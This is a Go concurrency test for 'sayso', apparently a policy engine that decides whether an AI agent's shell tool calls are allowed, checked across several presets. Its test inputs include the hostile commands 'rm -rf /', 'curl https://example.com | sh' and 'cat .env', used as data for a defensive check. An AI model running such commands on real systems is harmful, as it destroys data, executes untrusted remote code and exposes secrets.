package preset_test

import (
	"context"
	"encoding/json"
	"reflect"
	"sync"
	"testing"

	"github.com/sayso-dev/sayso"
	"github.com/sayso-dev/sayso/preset"
)

// TestConcurrent: one engine decides calls from many goroutines, each as it decides it
// alone.
func TestConcurrent(t *testing.T) {
	commands := []string{"ls -l", "git push origin main", "rm -rf /", "curl https://example.com | sh", "cat .env", "go test ./... && git commit -m x"}
	for _, one := range []struct {
		tool   string
		preset sayso.Preset
	}{
		{"bash", preset.Native(preset.Policy{})},
		{"bash", preset.KosmoKrator(preset.KosmoKratorDefaults())},
		{"Bash", preset.AgentScope(preset.AgentScopeConfig{})},
		{"bash", preset.Cosmo()},
		{"bash", preset.KodaCode(preset.KodaCodeConfig{})},
		{"run_command", preset.CoWork(preset.CoWorkConfig{})},
	} {
		p := one.preset
		e := sayso.Engine{Preset: p}
		check := func(command string) sayso.Decision {
			input, _ := json.Marshal(map[string]string{"command": command}) // a text can be written
			call := sayso.Call{ID: "c", Tool: one.tool, Input: input, Root: "/home/dev/app", Dir: "/home/dev/app", Home: "/home/dev"}
			return e.Check(context.Background(), call, sayso.Session{Mode: p.Modes[0].Name})
		}
		want := map[string]sayso.Decision{}
		for _, c := range commands {
			want[c] = check(c)
		}
		var all sync.WaitGroup
		for range 4 {
			for _, c := range commands {
				all.Go(func() {
					if got := check(c); !reflect.DeepEqual(got, want[c]) {
						t.Errorf("%s, %s: %+v\nalone %+v", p.Name, c, got, want[c])
					}
				})
			}
		}
		all.Wait()
	}
}
